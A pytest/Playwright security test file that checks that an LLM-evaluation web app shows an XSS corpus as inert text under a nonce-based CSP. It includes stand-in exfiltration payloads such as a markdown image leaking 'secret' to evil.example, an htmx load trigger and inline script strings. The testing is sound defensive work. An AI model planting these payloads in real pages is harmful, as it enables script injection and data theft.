"""Untrusted text never runs (SPEC §16): model output, suite text and labels carrying an XSS
corpus are shown as text on every page, under a CSP with a nonce, and the exported
report.html opened from disk runs and fetches nothing."""

from __future__ import annotations

import re
from pathlib import Path
from urllib.parse import urlencode

import pytest
from playwright.sync_api import expect

from runs.models import Pair
from tests.helpers.browser import (
    AUDIT_JS,
    CORPUS,
    CSP_LISTENER,
    HX_MARK,
    MARKER,
    SHORT,
    SUITE_NAME,
    PageWatch,
    corpus_text,
    make_hostile_run,
    visible_text,
)

pytestmark = pytest.mark.django_db(transaction=True)

TEMPLATE_SYNTAX = "{{ 7*7 }} {% debug %}"
MARKDOWN_IMAGE = "![x](http://evil.example/?q=secret)"
HX_TEXT = '<div hx-get="/admin/?xss=hx" hx-trigger="load"'
NONCE = re.compile(r"'nonce-([^']+)'")


def guard(page, origin: str) -> None:
    """Record CSP violations from the first script on, record any request an hx-* payload
    caused, and never let a request leave the machine (a leak is still recorded by the
    PageWatch, which sees the request before the route aborts it)."""
    page.add_init_script(CSP_LISTENER)
    page.on(
        "request",
        lambda request: (
            HX_MARK in request.url
            and page.watch.problems.append(f"hx payload request: {request.url}")
        ),
    )
    page.route(lambda url: not url.startswith((origin, "data:")), lambda route: route.abort())


def audited(page, url: str) -> str:
    """Open `url`, check its security headers and that nothing hostile ran or became
    markup; return its visible text (every <details> opened)."""
    response = page.goto(url)
    assert response is not None and response.status == 200, f"{url}: {response and response.status}"
    headers = response.headers
    csp = headers.get("content-security-policy", "")
    nonce = NONCE.search(csp)
    assert "script-src" in csp and nonce, f"{url}: CSP without a nonce: {csp!r}"
    assert "img-src 'self' data:" in csp, f"{url}: {csp!r}"
    assert headers.get("x-content-type-options") == "nosniff", url
    assert headers.get("referrer-policy"), url
    page.wait_for_load_state("networkidle")
    text, audit = audit_now(page, url)
    # the app's htmx script tag carries this response's nonce
    htmx = [script_nonce for src, script_nonce in audit["scripts"] if "htmx" in src]
    assert htmx == [nonce.group(1)], f"{url}: {audit['scripts']}"
    return text


def audit_now(page, where: str) -> tuple[str, dict]:
    """The page as it is now (after a load or an htmx swap): nothing ran, nothing hostile
    became markup, no CSP violation, no foreign request, no dialog."""
    text = visible_text(page)  # opening <details> fires an injected ontoggle, if any
    page.wait_for_timeout(150)  # onerror / onload / htmx "load" triggers get their turn
    audit = page.evaluate(AUDIT_JS, HX_MARK)
    assert audit["found"] == [], f"{where}: {audit['found']}"
    assert audit["xss"] == "undefined", f"{where}: a payload set window.__xss"
    assert audit["csp"] == [], f"{where}: CSP violations {audit['csp']}"
    assert page.watch.problems == [], f"{where}: {page.watch.problems}"
    return text, audit


def shows(page, selector: str, snippet: str) -> None:
    """Some element matching `selector` shows `snippet` as text."""
    texts = page.locator(selector).all_inner_texts()
    assert any(snippet in text for text in texts), (
        f"{page.url}: no {selector} shows {snippet!r}; saw {[t[:80] for t in texts]}"
    )


def test_the_audit_catches_the_corpus_when_a_page_does_not_escape_it(chromium):
    """The checks below can fail: the raw corpus in a page trips every one of them."""
    page = chromium.new_page()
    try:
        page.watch = PageWatch(page, "about:")
        page.route(lambda url: not url.startswith(("about:", "data:")), lambda r: r.abort())
        breakout = f'<p title="{CORPUS[5]}">quoted wrongly</p>'
        page.set_content(
            "<!doctype html><body>"
            + "".join(CORPUS[i] for i in (0, 1, 2, 11, 14, 21))
            + breakout
            + "</body>"
        )
        page.wait_for_timeout(300)
        audit = page.evaluate(AUDIT_JS, HX_MARK)
        assert audit["xss"] == "number"
        found = "\n".join(audit["found"])
        for expected in (
            "event handler onerror",
            "event handler ontoggle",
            "javascript: URL in href",
            "hostile htmx attribute hx-get",
            "attribute breakout",
            "evil.example in src",
            "script element",
        ):
            assert expected in found, found
        problems = "\n".join(page.watch.problems)
        assert "dialog:" in problems and "request to http://evil.example/" in problems
    finally:
        page.close()


def test_every_page_shows_hostile_text_as_text_and_runs_none_of_it(
    logged_in, live_server, tmp_path, django_user_model
):
    page = logged_in
    origin = live_server.url
    guard(page, origin)
    run = make_hostile_run(tmp_path, user=django_user_model.objects.get(username="member"))
    assert run.status == "done", run.detail
    runs = f"{origin}/runs/{run.id}"

    # dashboard: names only (suite names are identifiers); it lists the hostile run
    text = audited(page, f"{origin}/")
    assert run.display_name in text and SUITE_NAME in text  # by its (hostile) label, as text

    audited(page, f"{origin}/suites/")
    shows(page, "td", MARKER)  # the description, truncated

    text = audited(page, f"{origin}/suites/{SUITE_NAME}/")
    shows(page, "main > p", MARKER)  # description
    assert TEMPLATE_SYNTAX in text and MARKDOWN_IMAGE in text and HX_TEXT in text
    shows(page, "details pre", MARKER)  # suite rubric, task system, prompt, rubric
    shows(page, "#cases td", MARKER)  # case vars
    shows(page, 'section:has(h2:has-text("Labels from the file")) td', MARKER)  # label note
    shows(page, ".tag", SHORT)  # the run's label

    text = audited(page, f"{runs}/")
    shows(page, ".tag", SHORT)
    shows(page, "#run-decisions pre", MARKER)  # the decision's reasoning
    shows(page, "section.report", MARKER)  # the report quotes the error message
    assert TEMPLATE_SYNTAX in text

    audited(page, f"{runs}/answers/")
    shows(page, "pre.answer-text", MARKER)  # answer text
    shows(page, "td .muted", f'does not contain "{MARKER}')  # the check's note
    audited(page, f"{runs}/answers/?verdict=error")
    assert page.locator("tbody tr").count() == 1
    shows(page, "pre.answer-text", MARKER)  # the error message
    audited(page, f"{runs}/answers/?verdict=schema_fail&contestant=scripted/cand")
    shows(page, "pre.answer-text", f'{{"text": "{MARKER}')
    audited(page, f"{runs}/answers/?task=chat&contestant=scripted/base")
    assert page.locator("tbody tr").count() == 3
    # the htmx filter swaps the results in place: still text
    page.select_option("select[name=verdict]", "error")
    page.wait_for_url(re.compile(r"verdict=error"))
    expect(page.locator("#answer-results tbody tr").first).to_contain_text("No answer")
    page.select_option("select[name=contestant]", "scripted/cand")
    page.select_option("select[name=task]", "")
    page.wait_for_function(
        "() => document.querySelectorAll('#answer-results tbody tr.answer-row').length === 1"
    )
    shows(page, "#answer-results pre.answer-text", MARKER)
    audit_now(page, "answers after the htmx filter")
    # hostile filter values are echoed nowhere as markup
    hostile = urlencode({"task": SHORT, "contestant": corpus_text(), "verdict": MARKER})
    audited(page, f"{runs}/answers/?{hostile}")

    pairs = list(Pair.objects.filter(run=run).order_by("pk"))
    assert len(pairs) == 4
    text = audited(page, f"{runs}/pairs/")
    assert page.locator("tbody tr").count() == 4
    assert "excluded: answer_error" in text and "excluded: schema_fail" in text
    text = audited(page, f"{runs}/pairs/?flips=1")
    assert page.locator("tbody tr").count() == 1 and "flip" in text
    hostile = urlencode({"task": SHORT, "candidate": corpus_text(), "excluded": MARKER})
    audited(page, f"{runs}/pairs/?{hostile}")

    for pair in pairs:
        text = audited(page, f"{runs}/pairs/{pair.pk}/")
        if pair.case_id == "errored":
            shows(page, "section.answer pre", MARKER)  # the baseline's answer
            shows(page, "section.answer p.error", MARKER)  # the candidate's error
        elif pair.case_id == "schema":
            shows(page, "section.answer p.muted", "Schema: $.text: '<script>window.__xss=1;alert(")
        else:
            shows(page, "section.answer pre", MARKER)
            shows(page, "section.answer p.muted", f'Checks: does not contain "{MARKER}')
            shows(page, "article.verdict pre", MARKER)  # the judge's reason / its reply
            for snippet in (TEMPLATE_SYNTAX, MARKDOWN_IMAGE, HX_TEXT, "javascript:"):
                assert snippet in text, f"{pair.case_id}: {snippet!r} not shown"

    text = audited(page, f"{origin}/compare/?a={run.id}&b={run.id}")
    assert text.count(run.id) >= 2 and "Win-rates" in text and "scripted/cand" in text
    options = page.locator("select[name=a] option:checked").all_text_contents()
    assert any(SHORT in option for option in options), options

    audited(page, f"{origin}/decisions/")
    shows(page, "td pre", MARKER)

    text = audited(page, f"{origin}/prices/")
    shows(page, "h2", SHORT)  # the table's name
    shows(page, "p.muted", MARKER)  # its notes
    shows(page, "span.url", "javascript:window.__xss=1")  # a row's source URL
    audited(page, f"{origin}/prices/?{urlencode({'table': SHORT, 'provider': MARKER})}")
    shows(page, "h2", SHORT)


def test_report_html_downloaded_from_the_run_opens_from_disk_and_runs_nothing(
    logged_in, live_server, chromium, tmp_path, django_user_model
):
    page = logged_in
    run = make_hostile_run(tmp_path, user=django_user_model.objects.get(username="member"))
    page.goto(f"{live_server.url}/runs/{run.id}/")
    with page.expect_download() as download:
        page.click("a[href$='/files/report.html']")
    saved = tmp_path / "report.html"
    download.value.save_as(saved)
    assert saved.read_bytes() == (Path(run.report_dir) / "report.html").read_bytes()
    assert page.watch.problems == []

    disk = chromium.new_page()
    try:
        disk.watch = PageWatch(disk, "file://")
        requests: list[str] = []
        disk.on("request", lambda request: requests.append(request.url))
        disk.add_init_script(CSP_LISTENER)
        disk.route(lambda url: not url.startswith(("file://", "data:")), lambda r: r.abort())
        file_url = saved.as_uri()
        disk.goto(file_url)
        disk.wait_for_load_state("networkidle")
        text = visible_text(disk)
        disk.wait_for_timeout(300)

        assert MARKER in text  # the failure's message, as text
        assert SHORT in text  # the price table's name
        policy = disk.locator('meta[http-equiv="Content-Security-Policy"]').get_attribute("content")
        assert "default-src 'none'" in policy
        audit = disk.evaluate(AUDIT_JS, HX_MARK)
        assert audit["found"] == [] and audit["scripts"] == []
        assert audit["xss"] == "undefined" and audit["csp"] == []
        assert [url for url in requests if not url.startswith("data:")] == [file_url]
        assert disk.watch.problems == []
    finally:
        disk.close()


def test_labelling_pages_show_hostile_text_as_text_and_run_none_of_it(
    logged_in, live_server, tmp_path, django_user_model
):
    page = logged_in
    origin = live_server.url
    guard(page, origin)
    run = make_hostile_run(tmp_path, user=django_user_model.objects.get(username="member"))
    assert run.status == "done", run.detail

    text = audited(page, f"{origin}/label/")
    assert SUITE_NAME in text

    # blind labelling: the task (suite text and case vars) and both answers
    audited(page, f"{origin}/label/{SUITE_NAME}/")
    shows(page, "pre.task-text", MARKER)
    shows(page, "section.answer pre", MARKER)
    progress = page.locator("#label-progress").inner_text()
    # a label whose note is the corpus, typed and submitted through the page (htmx swap)
    page.fill("#label-note", corpus_text())
    page.get_by_role("button", name="1 · Left is better").click()
    expect(page.locator("#label-progress")).not_to_have_text(progress)
    audit_now(page, "labelling page after the htmx swap")

    audited(page, f"{origin}/label/{SUITE_NAME}/mine/")
    shows(page, "td", MARKER)  # the note, truncated

    audited(page, f"{origin}/suites/{SUITE_NAME}/calibration/")
    exported = page.locator("#labels-yaml").input_value()
    assert "<script>window.__xss=1" in exported and "</textarea>" in exported
